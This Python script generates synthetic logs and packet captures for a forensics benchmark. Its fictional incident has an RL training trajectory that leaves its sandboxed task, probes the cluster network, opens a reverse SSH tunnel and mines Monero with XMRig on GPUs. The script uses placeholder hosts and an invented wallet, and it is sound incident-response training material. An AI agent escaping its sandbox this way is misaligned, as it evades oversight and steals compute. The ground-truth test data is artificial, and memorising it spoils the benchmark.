#!/usr/bin/env python3
"""Generate the sample incident of cluster-forensics, and scale it for benchmarks.

The case: RL run ``rl-run-0217`` on four GPU nodes. One trajectory (``traj-000317``, sandbox
``sbx-0317`` on gpu-node-03) leaves its task, probes the cluster VPC, opens a reverse SSH tunnel
to 203.0.113.50, downloads XMRig and mines Monero on GPUs 6 and 7 of its node until responders
kill it at 04:40 UTC. A second trajectory (``traj-000842``) tries the same an hour later and is
dropped by a cloud-firewall ACL. Around it: benign trajectories, an inbound SSH brute force,
monitoring sweeps, an evaluation job, a git-over-SSH clone, pip over TLS, and a node clock that
runs 4.2 s slow. README.md states the ground truth; ground_truth.json says the same for tests.

Standard library only. Deterministic: the same arguments give the same bytes (gzip mtime 0 and
no file name, every random draw from ``random.Random`` seeded from ``--seed``, no wall clock).
Output is streamed, so ``--trajectories 1000000 --only trajectories`` runs in bounded memory.

    python sample_logs/generate.py --out sample_logs            # the committed sample
    python sample_logs/generate.py --out /tmp/big --trajectories 200000 --only trajectories,kernlog
"""

from __future__ import annotations

import argparse
import array
import bisect
import calendar
import gzip
import hashlib
import heapq
import io
import json
import math
import os
import random
import struct
import sys
import tarfile
import time
from dataclasses import dataclass, field

# ------------------------------------------------------------------------------------------------
# Constants of the story
# ------------------------------------------------------------------------------------------------

DEFAULT_SEED = 20260217
DAY0 = calendar.timegm((2026, 2, 17, 0, 0, 0, 0, 0, 0))  # 2026-02-17T00:00:00Z
LOCAL_OFFSET = 8 * 3600  # Asia/Shanghai, no DST
RUN_ID = "rl-run-0217"
EVAL_JOB = "eval-0217"
MONITOR_IP = "10.20.0.5"
CACHE_IP = "10.20.1.20"
DNS_IP = "10.20.0.2"
GW_MAC = "ee:ff:ff:ff:ff:ff"  # the VPC router as seen from an instance
DRIVER = "550.144.03"
GPU_MODEL = "NVIDIA H100 80GB HBM3"
GPU_MEM_TOTAL = 81559

TUNNEL_IP = "203.0.113.50"
DL_IP = "203.0.113.80"
DL_HOST = "dl.example.net"
DL_PATH = "/xmrig-6.21.0-linux-static-x64.tar.gz"
POOL_HOST = "xmr.pool.example.com"
POOL_IP = "198.51.100.77"
POOL_PORT = 3333
GIT_HOST = "git.example.com"
GIT_IP = "192.0.2.40"
PYPI_HOST = "pypi.example.org"
PYPI_IP = "192.0.2.10"
NTP_IP = "192.0.2.123"
BRUTE_IP = "203.0.113.200"
XMRIG_PID = 48211
XMRIG_PATH = "/tmp/.cache/xmrig-6.21.0/xmrig"
XMRIG_AGENT = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0"
MONITOR_PORTS = (22, 80, 443, 2379, 3000, 5000, 6379, 6443, 8000, 8080, 8443, 9090, 9091, 9093,
                 9100, 9200, 9400, 10250, 10255, 27017)
PROBE_PORTS = (22, 80, 443, 6379, 8080)
ACL_RULE_ID = "5f0c3a9e-6b2d-4c1e-9a7f-2d8e41b0c317"
ALIUID = "1000000000000001"
MON = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
DGX_BUS = ("18", "2A", "3A", "5D", "9A", "AB", "BA", "DB")
KINDS = ("inventory", "trajectories", "kernlog", "cloudfw", "pcap", "gpu", "audit", "falco", "truth")


def at(h: int, m: int = 0, s: float = 0.0) -> float:
    """Epoch seconds of a true UTC time on 2026-02-17 (hours may exceed 23)."""
    return DAY0 + h * 3600 + m * 60 + s


def hms(text: str) -> float:
    """'02:13:05.120' -> epoch seconds (true UTC, 2026-02-17)."""
    h, m, s = text.split(":")
    return at(int(h), int(m), float(s))


# Pinned times of the incident (true UTC).
T_ACL = hms("02:50:00")
T_KILL = hms("04:40:00")
T_CONTAINER_RM = hms("04:41:10")
T_XMRIG_GPU = hms("02:31:10")
PCAP_START = hms("02:10:00")
PCAP_END = hms("03:10:00")
AUDIT_START = hms("02:00:00")
AUDIT_END = hms("03:15:00")
DCGM_START = hms("01:30:00")
DCGM_END = hms("05:30:00")
SMI_START = hms("02:00:00")
SMI_END = hms("05:00:00")
BRUTE_START = hms("01:40:00")
BRUTE_END = hms("01:58:00")
EVAL_START = hms("03:30:00")
EVAL_END = hms("03:50:00")
TRAIN_START = at(-1, 31, 40.0)  # 2026-02-16T23:31:40Z, the job launch


# ------------------------------------------------------------------------------------------------
# Small helpers: time formatting, deterministic randomness
# ------------------------------------------------------------------------------------------------

def _us(t: float) -> tuple[int, int]:
    return divmod(int(round(t * 1_000_000)), 1_000_000)


_DATES: dict = {}


def iso_z(t: float, digits: int = 3) -> str:
    sec, us = _us(t)
    day, rem = divmod(sec, 86400)
    date = _DATES.get(day)
    if date is None:
        date = _DATES[day] = time.strftime("%Y-%m-%d", time.gmtime(day * 86400))
    h, rem = divmod(rem, 3600)
    m, s = divmod(rem, 60)
    base = f"{date}T{h:02d}:{m:02d}:{s:02d}"
    return f"{base}.{us:06d}"[: 20 + digits] + "Z" if digits else base + "Z"


def iso_ns(t: float, extra_ns: int) -> str:
    sec, us = _us(t)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)) + f".{us:06d}{extra_ns % 1000:03d}Z"


def epoch_ns(t: float, extra_ns: int) -> int:
    sec, us = _us(t)
    return sec * 1_000_000_000 + us * 1000 + extra_ns % 1000


def syslog_stamp(t_true: float, skew: float) -> str:
    """RFC 3164 stamp in node local time (Asia/Shanghai), no year, no zone, day space-padded."""
    g = time.gmtime(int(math.floor(t_true + skew + LOCAL_OFFSET)))
    return f"{MON[g.tm_mon - 1]} {g.tm_mday:2d} {g.tm_hour:02d}:{g.tm_min:02d}:{g.tm_sec:02d}"


def smi_stamp(t_local_clock: float) -> str:
    sec, us = _us(t_local_clock + LOCAL_OFFSET)
    return time.strftime("%Y/%m/%d %H:%M:%S", time.gmtime(sec)) + f".{us // 1000:03d}"


def rng_for(seed: int, *parts: object) -> random.Random:
    return random.Random("/".join([str(seed), *map(str, parts)]))


def hexdigest(seed: int, *parts: object, n: int = 12) -> str:
    return hashlib.sha256("/".join([str(seed), *map(str, parts)]).encode()).hexdigest()[:n]


def mac_from(seed: int, *parts: object, prefix: str | None = None) -> str:
    h = hexdigest(seed, "mac", *parts, n=12)
    octets = [h[i:i + 2] for i in range(0, 12, 2)]
    if prefix:
        octets[:3] = prefix.split(":")
    else:
        octets[0] = f"{(int(octets[0], 16) & 0xFC) | 0x02:02x}"  # locally administered, unicast
    return ":".join(octets)


def uuid_from(seed: int, *parts: object) -> str:
    h = hexdigest(seed, "uuid", *parts, n=32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def invented_wallet(seed: int) -> str:
    """A 95-character Monero-style address: '4', a version-range character, 93 base58 characters.
    Random, so its checksum is wrong: it is not anybody's wallet."""
    r = rng_for(seed, "wallet")
    return "4" + r.choice("123456789AB") + "".join(r.choice(BASE58) for _ in range(93))


def ipid_for(seed: int, *key) -> int:
    """IP ID of a connection's first SYN (shared by the pcap and the kern.log line for it)."""
    return int(hexdigest(seed, "ipid", *key, n=4), 16)


def open_out(path: str, gz: bool = False):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    raw = open(path, "wb")
    if gz:
        return gzip.GzipFile(filename="", mode="wb", fileobj=raw, compresslevel=9, mtime=0), raw
    return raw, None


class Sink:
    """A text output file, optionally gzip, written in order."""

    def __init__(self, path: str, gz: bool = False):
        self.path = path
        self.fh, self.raw = open_out(path, gz)
        self.count = 0

    def write(self, text: str) -> None:
        self.fh.write(text.encode("utf-8"))
        self.count += 1

    def close(self) -> None:
        self.fh.close()
        if self.raw is not None:
            self.raw.close()


def merge_timed(*streams):
    """Merge iterables of (t, order, payload) already sorted by (t, order)."""
    return heapq.merge(*streams, key=lambda item: (item[0], item[1]))


def sweep(items, release, produce):
    """Yield (t, order, payload) in time order from items sorted by release time.

    ``produce(item)`` returns (t, order, payload) tuples with t >= release(item); items arrive in
    release order, so anything earlier than the next release can be emitted: memory stays bounded
    by the records of the items still open.
    """
    heap: list = []
    seq = 0
    for item in items:
        r = release(item)
        while heap and heap[0][0] < r:
            t, order, _, payload = heapq.heappop(heap)
            yield t, order, payload
        for t, order, payload in produce(item):
            heapq.heappush(heap, (t, order, seq, payload))
            seq += 1
    while heap:
        t, order, _, payload = heapq.heappop(heap)
        yield t, order, payload


# ------------------------------------------------------------------------------------------------
# The cluster
# ------------------------------------------------------------------------------------------------

@dataclass
class Gpu:
    index: int
    uuid: str
    bus: str
    job: str
    pod: str
    namespace: str
    container: str
    train_pid: int = 0


@dataclass
class Node:
    n: int
    name: str
    ip: str
    eip: str
    mac: str
    cni_mac: str
    boot: float
    skew: float
    gpus: list = field(default_factory=list)
    pool_base: list = field(default_factory=list)


def node_ip(n: int) -> tuple[str, str]:
    if n <= 9:
        return f"10.20.1.{10 + n}", f"198.51.100.{10 + n}"
    return f"10.20.{2 + (n - 10) // 200}.{10 + (n - 10) % 200}", f"198.51.100.{100 + n}"


def build_cluster(seed: int, n_nodes: int, n_gpus: int) -> list[Node]:
    boots = {1: at(-1, 2, 11.42), 2: at(-1, 3, 48.91), 3: at(-1, 10, 17.37), 4: at(-1, 5, 2.66)}
    nodes = []
    for n in range(1, n_nodes + 1):
        ip, eip = node_ip(n)
        node = Node(n=n, name=f"gpu-node-{n:02d}", ip=ip, eip=eip,
                    mac=mac_from(seed, "eth0", n, prefix="00:16:3e"),
                    cni_mac=mac_from(seed, "cni0", n),
                    boot=boots.get(n, at(-1, 0, 30.0 + 97.0 * n)),
                    skew=-4.2 if n == 3 else 0.0)
        for g in range(n_gpus):
            bus = DGX_BUS[g] if g < len(DGX_BUS) else f"{0xC0 + g:02X}"
            if n == 4 and 4 <= g <= 7:
                gpu = Gpu(g, "GPU-" + uuid_from(seed, n, g), f"00000000:{bus}:00.0", EVAL_JOB,
                          "eval-0217-0", "eval", "evalharness")
            else:
                gpu = Gpu(g, "GPU-" + uuid_from(seed, n, g), f"00000000:{bus}:00.0", RUN_ID,
                          f"rl-run-0217-worker-{n - 1}", "rl-training", "trainer")
            node.gpus.append(gpu)
        node.pool_base = [f"10.244.{n}.{i}" for i in range(10, 42)]
        nodes.append(node)
    return nodes


class PidModel:
    """Node-03 PIDs: the kernel hands out PIDs in order; this node spends about 4 per second on
    daemons and probes, so a PID tells roughly when a process started. Calibrated so that the
    miner gets PID 48211."""

    RATE = 4.0

    def __init__(self, boot: float, anchor_t: float, anchor_pid: int):
        self.boot = boot
        self.p0 = anchor_pid - int(math.floor(self.RATE * (anchor_t - boot)))

    def floor_pid(self, t: float) -> int:
        return self.p0 + int(math.floor(self.RATE * (t - self.boot)))


# ------------------------------------------------------------------------------------------------
# Packets: Ethernet / IPv4 / TCP / UDP with real checksums
# ------------------------------------------------------------------------------------------------

def _ip4(s: str) -> bytes:
    return bytes(int(x) for x in s.split("."))


def _mac(s: str) -> bytes:
    return bytes.fromhex(s.replace(":", ""))


def _csum(data: bytes) -> bytes:
    if len(data) & 1:
        data += b"\0"
    s = sum(array.array("H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return struct.pack("=H", ~s & 0xFFFF)


def ipv4_packet(src: str, dst: str, proto: int, l4: bytes, ident: int, ttl: int, df: bool = True,
                tos: int = 0) -> bytes:
    hdr = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, tos, 20 + len(l4), ident & 0xFFFF,
                                0x4000 if df else 0, ttl, proto, 0, _ip4(src), _ip4(dst)))
    hdr[10:12] = _csum(bytes(hdr))
    return bytes(hdr) + l4


def l4_checksummed(src: str, dst: str, proto: int, seg: bytearray, off: int) -> bytes:
    pseudo = _ip4(src) + _ip4(dst) + struct.pack("!BBH", 0, proto, len(seg))
    seg[off:off + 2] = _csum(pseudo + bytes(seg))
    return bytes(seg)


def udp_frame(src_mac: str, dst_mac: str, src: str, sport: int, dst: str, dport: int, payload: bytes,
              ident: int, ttl: int) -> bytes:
    seg = bytearray(struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload)
    l4 = l4_checksummed(src, dst, 17, seg, 6)
    return _mac(dst_mac) + _mac(src_mac) + b"\x08\x00" + ipv4_packet(src, dst, 17, l4, ident, ttl, df=False)


FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


class TcpFlow:
    """One TCP connection as seen at the capture point (node-03's ENI).

    ``local`` is the side on node-03 (client for egress, server for inbound). Times passed in are
    observation times at the capture point. With ``frames=False`` only sizes are kept (for firewall
    byte counts), and no payload bytes are drawn.
    """

    def __init__(self, rng: random.Random, brng: random.Random | None, cli: tuple, srv: tuple, *,
                 local_is_client: bool = True, rtt: float = 0.03, local_mac: str = "", remote_mac: str = GW_MAC,
                 local_ttl: int = 63, remote_ttl: int = 52, frames: bool = True, mss: int = 1448,
                 cli_ipid: int | None = None):
        self.rng, self.brng, self.frames, self.mss, self.rtt = rng, brng, frames, mss, rtt
        self.local = 0 if local_is_client else 1
        self.ends = []
        for side, (ip, port) in enumerate((cli, srv)):
            is_local = side == self.local
            self.ends.append({
                "ip": ip, "port": port, "seq": rng.getrandbits(32), "ack": 0,
                "ipid": rng.getrandbits(16), "tsoff": rng.getrandbits(31), "peer_ts": 0,
                "ttl": local_ttl if is_local else remote_ttl, "rx": [],
                "mac": local_mac if is_local else remote_mac,
                "win": 502 if side == 0 else 509,
            })
        if cli_ipid is not None:
            self.ends[0]["ipid"] = cli_ipid
        self.syn_ipid = self.ends[0]["ipid"]
        self.pkts: list = []  # (t, n, frame_or_None, side, ip_len)
        self.n = 0
        self.start = None

    # -- building blocks -------------------------------------------------------------------------
    def fill(self, n: int):
        return self.brng.randbytes(n) if (self.frames and self.brng is not None) else n

    def delay(self, to_side: int) -> float:
        """Observed delay between a packet and the first response from ``to_side``."""
        return 0.00004 + self.rng.random() * 0.00003 if to_side == self.local else self.rtt * (1 + 0.08 * self.rng.random())

    def emit(self, t: float, side: int, flags: int, payload=b"", syn: bool = False) -> float:
        e, o = self.ends[side], self.ends[1 - side]
        plen = payload if isinstance(payload, int) else len(payload)
        tsval = (int(t * 1000) + e["tsoff"]) & 0xFFFFFFFF
        # what this side has received by time t: ACK number and the timestamp to echo
        for avail, seq_end, peer_ts in reversed(e["rx"]):
            if avail <= t + 1e-9:
                e["ack"], e["peer_ts"] = seq_end, peer_ts
                break
        opt_len = 20 if syn else 12
        ip_len = 20 + 20 + opt_len + plen
        if self.start is None:
            self.start = t
        frame = None
        if self.frames:
            if syn:
                opts = (b"\x02\x04\x05\xb4" + b"\x04\x02" + struct.pack("!BBII", 8, 10, tsval, e["peer_ts"])
                        + b"\x01" + b"\x03\x03\x07")
                win = 64240 if side == 0 else 65160
            else:
                opts = b"\x01\x01" + struct.pack("!BBII", 8, 10, tsval, e["peer_ts"])
                win = e["win"]
            ackno = e["ack"] if flags & ACK else 0
            body = payload if isinstance(payload, (bytes, bytearray)) else b"\0" * plen
            seg = bytearray(struct.pack("!HHIIBBHHH", e["port"], o["port"], e["seq"], ackno,
                                        ((20 + len(opts)) // 4) << 4, flags, win, 0, 0) + opts + bytes(body))
            l4 = l4_checksummed(e["ip"], o["ip"], 6, seg, 16)
            ip = ipv4_packet(e["ip"], o["ip"], 6, l4, e["ipid"], e["ttl"])
            frame = _mac(o["mac"]) + _mac(e["mac"]) + b"\x08\x00" + ip
        e["ipid"] = (e["ipid"] + 1) & 0xFFFF
        e["seq"] = (e["seq"] + plen + (1 if flags & (SYN | FIN) else 0)) & 0xFFFFFFFF
        avail = t + (self.rtt / 2 if side == self.local else 0.0)
        if o["rx"] and o["rx"][-1][0] > avail:  # keep arrival order monotonic
            avail = o["rx"][-1][0]
        o["rx"].append((avail, e["seq"], tsval))
        if len(o["rx"]) > 64:
            del o["rx"][:32]
        self.pkts.append((t, self.n, frame, side, ip_len, plen))
        self.n += 1
        return t

    # -- conversations ---------------------------------------------------------------------------
    def handshake(self, t: float) -> float:
        self.emit(t, 0, SYN, syn=True)
        t += self.delay(1)
        self.emit(t, 1, SYN | ACK, syn=True)
        t += self.delay(0)
        self.emit(t, 0, ACK)
        return t

    def syn_only(self, t: float, retries: tuple = ()) -> float:
        self.emit(t, 0, SYN, syn=True)
        seq = self.ends[0]["seq"]
        for r in retries:  # retransmissions reuse the ISN
            self.ends[0]["seq"] = (seq - 1) & 0xFFFFFFFF
            self.emit(t + r, 0, SYN, syn=True)
        return t + (retries[-1] if retries else 0.0)

    def send(self, side: int, data, t: float, gap: float = 0.00012, push: bool = True) -> float:
        """Send ``data`` (bytes, or an int length of filler) from ``side``; returns last send time."""
        total = data if isinstance(data, int) else len(data)
        pos = 0
        i = 0
        while pos < total:
            n = min(self.mss, total - pos)
            chunk = n if isinstance(data, int) else data[pos:pos + n]
            if isinstance(chunk, int):
                chunk = self.fill(chunk)
            last = pos + n >= total
            self.emit(t + i * gap, side, ACK | (PSH if (last and push) else 0), chunk)
            pos += n
            i += 1
        return t + max(0, i - 1) * gap

    def bulk(self, side: int, data, t: float, rate: float, ack_every: int = 2) -> float:
        """Bulk transfer from ``side`` at ``rate`` bytes/s with the peer ACKing every few segments."""
        total = data if isinstance(data, int) else len(data)
        pos, i, tt = 0, 0, t
        peer = 1 - side
        pending = 0
        while pos < total:
            n = min(self.mss, total - pos)
            chunk = n if isinstance(data, int) else data[pos:pos + n]
            if isinstance(chunk, int):
                chunk = self.fill(chunk)
            last = pos + n >= total
            self.emit(tt, side, ACK | (PSH if last else 0), chunk)
            pos += n
            i += 1
            pending += 1
            if pending >= ack_every or last:
                self.emit(tt + self.delay(peer), peer, ACK)
                pending = 0
            tt += n / rate
        return tt

    def ack(self, side: int, t: float) -> float:
        return self.emit(t, side, ACK)

    def close(self, side: int, t: float) -> float:
        self.emit(t, side, FIN | ACK)
        t += self.delay(1 - side)
        self.emit(t, 1 - side, FIN | ACK)
        t += self.delay(side)
        self.emit(t, side, ACK)
        return t

    def packets(self):
        return sorted(self.pkts, key=lambda p: (p[0], p[1]))

    def stats(self, t0: float = -1e18, t1: float = 1e18) -> dict:
        """Packets and IP bytes per direction in [t0, t1): 'up' is client->server."""
        out = {"up_pkts": 0, "up_bytes": 0, "up_payload": 0, "down_pkts": 0, "down_bytes": 0, "down_payload": 0}
        for t, _, _, side, ip_len, plen in self.pkts:
            if t0 <= t < t1:
                key = "up" if side == 0 else "down"
                out[key + "_pkts"] += 1
                out[key + "_bytes"] += ip_len
                out[key + "_payload"] += plen
        return out


class UdpExchange:
    """A few UDP datagrams (DNS) between the node and the VPC resolver."""

    def __init__(self):
        self.pkts: list = []
        self.n = 0
        self.start = None

    def add(self, t: float, frame: bytes | None, side: int, ip_len: int, plen: int) -> None:
        if self.start is None or t < self.start:
            self.start = t
        self.pkts.append((t, self.n, frame, side, ip_len, plen))
        self.n += 1

    def packets(self):
        return sorted(self.pkts, key=lambda p: (p[0], p[1]))


# ------------------------------------------------------------------------------------------------
# Application payloads: DNS, TLS, SSH, HTTP, XMRig stratum
# ------------------------------------------------------------------------------------------------

def dns_name(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def dns_message(qid: int, name: str, qtype: int, answer: str | None = None, response: bool = False,
                ttl: int = 300) -> bytes:
    flags = 0x8180 if response else 0x0100
    an = 1 if (response and answer) else 0
    msg = struct.pack("!HHHHHH", qid, flags, 1, an, 0, 0) + dns_name(name) + struct.pack("!HH", qtype, 1)
    if an:
        msg += struct.pack("!HHHIH", 0xC00C, qtype, 1, ttl, 4) + _ip4(answer)
    return msg


def dns_lookup(rng: random.Random, t: float, src_ip: str, src_mac: str, qname: str, answer: str,
               frames: bool = True, ttl_out: int = 63) -> UdpExchange:
    """glibc-style A + AAAA over one socket to the VPC resolver; only the A record exists."""
    ex = UdpExchange()
    sport = rng.randint(32768, 60999)
    ident = rng.getrandbits(16)
    qa, q6 = rng.getrandbits(16), rng.getrandbits(16)
    lat = 0.0006 + rng.random() * 0.0015
    msgs = [
        (t, 0, dns_message(qa, qname, 1)),
        (t + 0.00003, 0, dns_message(q6, qname, 28)),
        (t + lat, 1, dns_message(qa, qname, 1, answer, True, ttl=300)),
        (t + lat + 0.00011, 1, dns_message(q6, qname, 28, None, True)),
    ]
    for i, (tt, side, payload) in enumerate(msgs):
        frame = None
        if frames:
            if side == 0:
                frame = udp_frame(src_mac, GW_MAC, src_ip, sport, DNS_IP, 53, payload, ident + i, ttl_out)
            else:
                frame = udp_frame(GW_MAC, src_mac, DNS_IP, 53, src_ip, sport, payload, 0, 64)
        ex.add(tt, frame, side, 28 + len(payload), len(payload))
    return ex


def _u16(n: int) -> bytes:
    return struct.pack("!H", n)


def _u24(n: int) -> bytes:
    return struct.pack("!I", n)[1:]


def tls_record(ctype: int, body: bytes, version: int = 0x0303) -> bytes:
    return struct.pack("!BHH", ctype, version, len(body)) + body


def tls_client_hello(rng: random.Random, sni: str) -> bytes:
    """ClientHello as sent by Python 3.11's ssl module (OpenSSL 3) with ALPN http/1.1."""
    ciphers = (0x1302, 0x1303, 0x1301, 0xC02C, 0xC030, 0x009F, 0xCCA9, 0xCCA8, 0xCCAA, 0xC02B, 0xC02F,
               0x009E, 0xC024, 0xC028, 0x006B, 0xC023, 0xC027, 0x0067, 0xC00A, 0xC014, 0x0039, 0xC009,
               0xC013, 0x0033, 0x009D, 0x009C, 0x003D, 0x003C, 0x0035, 0x002F, 0x00FF)
    groups = (0x001D, 0x0017, 0x001E, 0x0019, 0x0018, 0x0100, 0x0101, 0x0102, 0x0103, 0x0104)
    sigalgs = (0x0403, 0x0503, 0x0603, 0x0807, 0x0808, 0x0809, 0x080A, 0x080B, 0x0804, 0x0805, 0x0806,
               0x0401, 0x0501, 0x0601, 0x0303, 0x0301, 0x0302, 0x0402, 0x0502, 0x0602)

    def ext(kind: int, body: bytes) -> bytes:
        return _u16(kind) + _u16(len(body)) + body

    name = sni.encode()
    exts = b"".join([
        ext(0, _u16(len(name) + 3) + b"\x00" + _u16(len(name)) + name),
        ext(11, b"\x03\x00\x01\x02"),
        ext(10, _u16(2 * len(groups)) + b"".join(_u16(g) for g in groups)),
        ext(35, b""),
        ext(16, _u16(9) + b"\x08http/1.1"),
        ext(22, b""),
        ext(23, b""),
        ext(49, b""),
        ext(13, _u16(2 * len(sigalgs)) + b"".join(_u16(a) for a in sigalgs)),
        ext(43, b"\x04\x03\x04\x03\x03"),
        ext(45, b"\x01\x01"),
        ext(51, _u16(36) + _u16(0x001D) + _u16(32) + rng.randbytes(32)),
    ])
    body = (b"\x03\x03" + rng.randbytes(32) + b"\x20" + rng.randbytes(32)
            + _u16(2 * len(ciphers)) + b"".join(_u16(c) for c in ciphers) + b"\x01\x00"
            + _u16(len(exts)) + exts)
    return tls_record(22, b"\x01" + _u24(len(body)) + body, version=0x0301)


def tls_server_hello(rng: random.Random, client_hello: bytes) -> bytes:
    session_id = client_hello[5 + 4 + 2 + 32 + 1: 5 + 4 + 2 + 32 + 1 + 32]
    exts = _u16(43) + _u16(2) + b"\x03\x04" + _u16(51) + _u16(36) + _u16(0x001D) + _u16(32) + rng.randbytes(32)
    body = b"\x03\x03" + rng.randbytes(32) + b"\x20" + session_id + _u16(0x1302) + b"\x00" + _u16(len(exts)) + exts
    return tls_record(22, b"\x02" + _u24(len(body)) + body) + tls_record(20, b"\x01")


_HELLO_LENS: dict = {}


def tls_hello_lens(sni: str) -> tuple[int, int]:
    """Wire sizes of our ClientHello and ServerHello+CCS (they do not depend on the random bytes)."""
    if sni not in _HELLO_LENS:
        ch = tls_client_hello(random.Random(0), sni)
        _HELLO_LENS[sni] = (len(ch), len(tls_server_hello(random.Random(0), ch)))
    return _HELLO_LENS[sni]


def tls_app(rng: random.Random | None, n: int) -> bytes:
    """Application-data records carrying ``n`` bytes of plaintext (sizes only matter)."""
    out = []
    while n > 0:
        k = min(n, 16384)
        payload_len = k + 17  # inner content type + AEAD tag
        body = rng.randbytes(payload_len) if rng else b"\0" * payload_len
        out.append(struct.pack("!BHH", 23, 0x0303, payload_len) + body)
        n -= k
    return b"".join(out)


def tls_app_len(n: int) -> int:
    full, rem = divmod(n, 16384)
    return full * (16384 + 22) + (rem + 22 if rem else 0)


OPENSSH_96_KEX = ("sntrup761x25519-sha512@openssh.com,curve25519-sha256,curve25519-sha256@libssh.org,"
                  "ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,"
                  "diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,"
                  "ext-info-c,kex-strict-c-v00@openssh.com")
OPENSSH_96_HOSTKEY = ("ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,"
                      "ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,"
                      "sk-ssh-ed25519-cert-v01@openssh.com,sk-ecdsa-sha2-nistp256-cert-v01@openssh.com,"
                      "rsa-sha2-512-cert-v01@openssh.com,rsa-sha2-256-cert-v01@openssh.com,ssh-ed25519,"
                      "ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,sk-ssh-ed25519@openssh.com,"
                      "sk-ecdsa-sha2-nistp256@openssh.com,rsa-sha2-512,rsa-sha2-256")
OPENSSH_CIPHERS = ("chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,"
                   "aes256-gcm@openssh.com")
OPENSSH_MACS = ("umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,"
                "hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64@openssh.com,"
                "umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1")
OPENSSH_SERVER_KEX = ("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
                      "ecdh-sha2-nistp521,sntrup761x25519-sha512@openssh.com,diffie-hellman-group-exchange-sha256,"
                      "diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,"
                      "kex-strict-s-v00@openssh.com")
# The tunnel endpoint and the git server run a hardened KexAlgorithms list (no sntrup761x25519), so
# curve25519-sha256 is negotiated on the wire.
TUNNEL_SERVER_KEX = ("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
                     "ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,"
                     "diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,kex-strict-s-v00@openssh.com")
GIT_SERVER_CIPHERS = ("chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,"
                      "aes192-ctr,aes128-ctr")
GIT_SERVER_MACS = "hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com,umac-128-etm@openssh.com"
GIT_SERVER_KEX = ("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
                  "ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,"
                  "diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,kex-strict-s-v00@openssh.com")
OPENSSH_SERVER_HOSTKEY = "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519"
BANNER_CLIENT = b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n"
BANNER_TUNNEL_SERVER = b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n"
BANNER_GIT_SERVER = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"
BANNER_NODE = b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n"


def _sshstr(b: bytes | str) -> bytes:
    if isinstance(b, str):
        b = b.encode()
    return struct.pack("!I", len(b)) + b


def ssh_plain(rng: random.Random, payload: bytes) -> bytes:
    """An unencrypted SSH binary packet (before NEWKEYS), block size 8, random padding."""
    pad = 8 - ((5 + len(payload)) % 8)
    if pad < 4:
        pad += 8
    return struct.pack("!IB", 1 + len(payload) + pad, pad) + payload + rng.randbytes(pad)


def ssh_plain_len(payload_len: int) -> int:
    pad = 8 - ((5 + payload_len) % 8)
    if pad < 4:
        pad += 8
    return 5 + payload_len + pad


def ssh_enc_len(payload_len: int) -> int:
    """Wire size of a chacha20-poly1305@openssh.com packet carrying ``payload_len`` bytes."""
    body = 1 + payload_len + 4
    body = (body + 7) // 8 * 8
    return 4 + body + 16


def ssh_kexinit(rng: random.Random, kex: str, hostkey: str, ciphers: str = OPENSSH_CIPHERS,
                macs: str = OPENSSH_MACS) -> bytes:
    payload = (b"\x14" + rng.randbytes(16) + _sshstr(kex) + _sshstr(hostkey)
               + _sshstr(ciphers) * 2 + _sshstr(macs) * 2
               + _sshstr("none,zlib@openssh.com") * 2 + _sshstr("") * 2 + b"\x00" + b"\0\0\0\0")
    return ssh_plain(rng, payload)


def ssh_kex_init_msg(rng: random.Random) -> bytes:
    return ssh_plain(rng, b"\x1e" + _sshstr(rng.randbytes(32)))  # SSH_MSG_KEX_ECDH_INIT, curve25519 Q_C


def ssh_kex_reply_msg(rng: random.Random) -> bytes:
    hostkey = _sshstr("ssh-ed25519") + _sshstr(rng.randbytes(32))
    sig = _sshstr("ssh-ed25519") + _sshstr(rng.randbytes(64))
    return ssh_plain(rng, b"\x1f" + _sshstr(hostkey) + _sshstr(rng.randbytes(32)) + _sshstr(sig))


